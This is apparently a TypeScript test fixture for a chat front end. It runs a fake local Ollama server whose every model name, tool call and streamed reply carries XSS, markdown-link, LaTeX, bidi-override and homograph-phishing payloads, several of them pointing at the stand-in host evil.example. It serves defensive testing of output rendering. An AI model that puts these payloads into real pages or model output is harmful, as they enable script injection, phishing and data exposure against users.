import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

const ELSEWHERE = 'https://evil.example'

/** Attacks that a model's output may contain, one per line. */
export const CORPUS = [
  `<script>fetch('${ELSEWHERE}/script')</script>`,
  `<img src=${ELSEWHERE}/img onerror=document.title='owned'>`,
  `<svg/onload=document.title='owned'><use href=${ELSEWHERE}/x.svg#a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title='owned'&gt;">`,
  `<iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe><object data=${ELSEWHERE}></object>`,
  `<style>@import '${ELSEWHERE}/css';*{display:none!important}</style><link rel=stylesheet href=${ELSEWHERE}/css>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}"><base href=${ELSEWHERE}>`,
  `<form action=${ELSEWHERE}><input name=q><button autofocus onfocus=document.title='owned'>Sign in</button></form>`,
  `<a href="${ELSEWHERE}/" ping="${ELSEWHERE}/ping" id=__proto__ name=body>named</a>`,
  `![pixel](${ELSEWHERE}/pixel.png "t") ![data](data:image/svg+xml,<svg/onload=alert(1)>)`,
  `[script](javascript:document.title='owned') [vb](vbscript:x) [data](data:text/html,<script>1</script>) [blob](blob:x)`,
  `[spaced](java\tscript:document.title='owned') [entity](&#106;avascript:document.title='owned') <javascript:alert(1)>`,
  `[relative](//evil.example/x) [file](file:///etc/passwd) [login](https://user:pass@evil.example/)`,
  `[my.bank.example](${ELSEWHERE}/login?session=1) <https://xn--pple-43d.com> [аpple.com](https://аpple.com)`,
  `[long](${ELSEWHERE}/?${'q'.repeat(2000)})`,
  `$\\href{javascript:document.title='owned'}{x^2}$ $\\includegraphics{${ELSEWHERE}/maths.png}$ $\\htmlStyle{position:fixed}{x}$`,
  `$\\gdef\\a{\\a\\a}\\a$ $\\url{${ELSEWHERE}}$ $$\\rule{9999em}{9999em}$$`,
  'user\u202etxt.exe\u202c and `admin\u2066\u200bfalse` \u0000 \ufeff',
  '```html\n<script>document.title="owned"</script>\n```',
  '```"><img src=x onerror=document.title="owned">\nx\n```',
  '| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| [x](javascript:alert(1)) | ![](https://evil.example/cell) |',
  `[ref]: javascript:document.title='owned'`,
  'unbroken'.repeat(700),
  `${'>'.repeat(300)} deep`,
  `${'['.repeat(400)}${'*'.repeat(400)}`,
].join('\n\n')

/** A model's publisher chooses its name, so a name may be an attack too. */
export const MODEL = `<img src=x onerror=document.title='owned'>\u202egpj:${'long'.repeat(60)}`

const CALL = {
  function: {
    name: '<svg onload=alert(1)>\u202e',
    arguments: { '<b>x</b>': CORPUS.slice(0, 300), nested: { a: '\u202eb' } },
  },
}

const model = {
  ...{
    name: MODEL,
    model: MODEL,
    size: 1,
    digest: 'a'.repeat(64),
    modified_at: '2026-01-01T00:00:00Z',
  },
  details: {
    family: '<i>x</i>',
    families: ['<i>x</i>'],
    parameter_size: '<b>1B</b>',
    quantization_level: '<u>Q4</u>',
  },
}

const line = (text: object) =>
  `${JSON.stringify({ model: MODEL, created_at: '2026-01-01T00:00:00Z', ...text })}\n`

/** Pieces that split every mark. */
const pieces = CORPUS.match(/[^]{1,37}/g) ?? []

const ANSWERS: Readonly<Record<string, () => string>> = {
  '/': () => 'Ollama is running',
  '/api/version': () => JSON.stringify({ version: '0.24.0' }),
  '/api/tags': () => JSON.stringify({ models: [model] }),
  '/api/ps': () => JSON.stringify({ models: [] }),
  '/api/show': () =>
    JSON.stringify({
      details: model.details,
      capabilities: ['completion', 'thinking', 'tools'],
      model_info: {},
      modified_at: model.modified_at,
      template: '<b>{{ .Prompt }}</b>',
    }),
  '/api/generate': () =>
    line({ thinking: CORPUS.slice(0, 600), response: '', done: false }) +
    pieces.map((response) => line({ response, done: false })).join('') +
    line({
      response: '',
      done: true,
      done_reason: 'stop',
      total_duration: 9e8,
      load_duration: 1e8,
      prompt_eval_count: 5,
      prompt_eval_duration: 1e8,
      eval_count: 50,
      eval_duration: 5e8,
    }),
  '/api/chat': () =>
    line({ message: { role: 'assistant', content: '', tool_calls: [CALL] }, done: false }) +
    pieces
      .map((content) => line({ message: { role: 'assistant', content }, done: false }))
      .join('') +
    line({
      message: { role: 'assistant', content: '' },
      done: true,
      done_reason: 'stop',
      prompt_eval_count: 5,
      eval_count: 50,
      eval_duration: 5e8,
    }),
}

/** An Ollama whose every text is an attack on the page. */
export async function startHostileHome(): Promise<{ url: string; stop: () => void }> {
  const server = createServer((request, response) => {
    request.resume()
    const answer = ANSWERS[new URL(request.url ?? '/', 'http://home').pathname]
    response.writeHead(answer ? 200 : 404, {
      'Content-Type': /generate|chat/.test(request.url ?? '')
        ? 'application/x-ndjson'
        : 'application/json; charset=utf-8',
    })
    response.end(request.method === 'HEAD' ? undefined : (answer?.() ?? '{"error":"not found"}'))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    stop: () => {
      server.close()
      server.closeAllConnections()
    },
  }
}
